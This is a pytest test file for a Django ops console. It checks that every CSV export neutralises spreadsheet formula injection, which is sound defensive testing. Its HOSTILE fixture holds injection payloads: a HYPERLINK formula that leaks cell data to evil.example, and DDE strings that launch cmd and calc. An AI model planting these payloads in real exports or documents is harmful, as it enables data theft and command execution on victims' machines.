"""Every CSV export is safe to open in a spreadsheet (formula injection, OWASP),
streamed through the one helper `opsconsole.csv_export.csv_response`.

The URL resolver is walked for every route ending in `.csv`: an export added
without a case here fails `test_every_csv_url_has_a_case`."""

import csv
import io
import json
from collections.abc import Callable

import pytest
from django.http import StreamingHttpResponse
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from checklists import services as checklist_services
from checklists.models import ChecklistTemplate, TemplateItem
from incidents import services as incident_services
from opsconsole.csv_export import FORMULA_TRIGGERS, csv_response, neutralise
from opsconsole.models import Service
from opsconsole.roles import Role

pytestmark = pytest.mark.django_db

# Each one would be evaluated by Excel/LibreOffice if written as is.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _csv_urls(resolver=None, namespace=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _csv_urls(pattern, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv"):
            yield f"{namespace}{pattern.name}"


def _incident_export(user) -> str:
    hostile_user_incident = incident_services.incident_declare(
        actor=user,
        title=HOSTILE["="],
        severity=2,
        summary=HOSTILE["+"],
        customer_impact=HOSTILE["@"],
        tags=[HOSTILE["-"].replace(" ", "")],
        commander=user,
        services=[Service.objects.create(slug="-evil", name="Evil")],
    )
    assert hostile_user_incident.pk
    return reverse("incidents:export")


def _timeline_export(user) -> str:
    incident = incident_services.incident_declare(actor=user, title="Queue backlog", severity=3)
    for trigger, text in HOSTILE.items():
        incident_services.timeline_add_event(incident=incident, kind="note", text=text, data={"trigger": trigger})
    return reverse("incidents:timeline_export", args=[incident.reference])


def _checklist_runs_export(user) -> str:
    template = ChecklistTemplate.objects.create(name=HOSTILE["="])
    TemplateItem.objects.create(template=template, order=0, text="Look")
    checklist_services.run_start(actor=user, template=template)
    return reverse("checklists:template_export", args=[template.pk])


def _trend_export(user) -> str:
    """Top services: service names are user text (the chart's labels)."""
    from incidents.models import Incident

    for name in (HOSTILE["="], HOSTILE["+"]):
        service = Service.objects.create(slug=f"s{len(name)}{Service.objects.count()}", name=name)
        incident = incident_services.incident_declare(actor=user, title="x", severity=3, services=[service])
        assert Incident.objects.filter(pk=incident.pk).exists()
    return reverse("incidents:reviews_trend_csv", args=["top-services"])


def _checklist_days_export(user) -> str:
    """The history heatmap's days: run titles and the people who signed off."""
    template = ChecklistTemplate.objects.create(name=HOSTILE["-"])
    item = TemplateItem.objects.create(template=template, order=0, text="Look")
    run = checklist_services.run_start(actor=user, template=template)
    checklist_services.item_tick(actor=user, run_id=run.pk, item_id=run.items.get(template_item=item).pk)
    checklist_services.run_sign_off(actor=user, run=run)
    return reverse("checklists:template_history_csv", args=[template.pk])


def _latency_export(user) -> str:
    from healthchecks.models import CheckResult
    from tests.healthchecks.factories import make_check

    check = make_check(name=HOSTILE["="])
    for ms in (12.5, 30.0):
        CheckResult.objects.create(check_ref=check, checked_at=timezone.now(), state="ok", latency_ms=ms)
    return reverse("healthchecks:latency_csv", args=[check.pk])


# url name → builds hostile data as `user` (an SRE named "@evil") and returns the URL.
CASES: dict[str, Callable] = {
    "incidents:export": _incident_export,
    "incidents:timeline_export": _timeline_export,
    "checklists:template_export": _checklist_runs_export,
    "incidents:reviews_trend_csv": _trend_export,
    "checklists:template_history_csv": _checklist_days_export,
    "healthchecks:latency_csv": _latency_export,
}
# Exports of aggregated figures or measurements: no user names in them (the
# heatmap's days name who signed off inside a sentence, never at a cell's start).
WITHOUT_USERNAMES = {"incidents:reviews_trend_csv", "healthchecks:latency_csv", "checklists:template_history_csv"}


def test_every_csv_url_has_a_case():
    assert set(_csv_urls()) == set(CASES), "a CSV export without a neutralisation case in tests/test_csv_exports.py"


def _rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse), "CSV exports stream through opsconsole.csv_export"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


@pytest.mark.parametrize("url_name", sorted(CASES))
def test_every_export_neutralises_formulas(client_as, url_name):
    client = client_as(Role.SRE, username="@evil")
    response = client.get(CASES[url_name](client.user))
    assert response.status_code == 200
    rows = _rows(response)
    body = [cell for row in rows[1:] for cell in row]
    dangerous = [cell for cell in body if cell.startswith(FORMULA_TRIGGERS)]
    assert not dangerous, f"{url_name} writes cells a spreadsheet would evaluate: {dangerous}"
    neutralised = [cell for cell in body if cell.startswith("'") and cell[1:2] in FORMULA_TRIGGERS]
    assert neutralised, f"{url_name}: the hostile values did not reach the export"
    if url_name not in WITHOUT_USERNAMES:
        assert "'@evil" in body, f"{url_name}: usernames are user text too"


def test_neutralised_values_keep_their_text_after_the_quote(client_as):
    client = client_as(Role.SRE)
    rows = _rows(client.get(_timeline_export(client.user)))
    texts = [row[6] for row in rows[1:] if row[4] == "note"]
    assert texts == ["'" + text for text in HOSTILE.values()]


def test_timeline_data_column_is_json(client_as):
    client = client_as(Role.SRE)
    incident = incident_services.incident_declare(actor=client.user, title="Queue backlog", severity=3)
    data = {"b": [1, None, True], "a": 'é "quoted"'}
    incident_services.timeline_add_event(incident=incident, kind="note", text="x", data=data)
    rows = _rows(client.get(reverse("incidents:timeline_export", args=[incident.reference])))
    header = rows[0]
    note = [row for row in rows[1:] if row[header.index("kind")] == "note"][0]
    assert json.loads(note[header.index("data")]) == data


def test_neutralise_leaves_numbers_dates_and_plain_text_alone():
    import datetime

    when = datetime.datetime(2026, 1, 2, 3, 4, tzinfo=datetime.UTC)
    assert [neutralise(v) for v in (-5, 2.5, True, None, when, "plain", "a=b", " =x")] == [
        -5,
        2.5,
        True,
        "",
        "2026-01-02T03:04:00+00:00",
        "plain",
        "a=b",
        " =x",
    ]


def test_csv_response_streams_a_lazy_generator():
    produced = []

    def rows():
        for i in range(3):
            produced.append(i)
            yield [i, f"-{i}"]

    response = csv_response(["n", "text"], rows(), "x.csv")
    assert produced == []  # nothing is built before the client reads
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines == ["n,text", "0,'-0", "1,'-1", "2,'-2"]
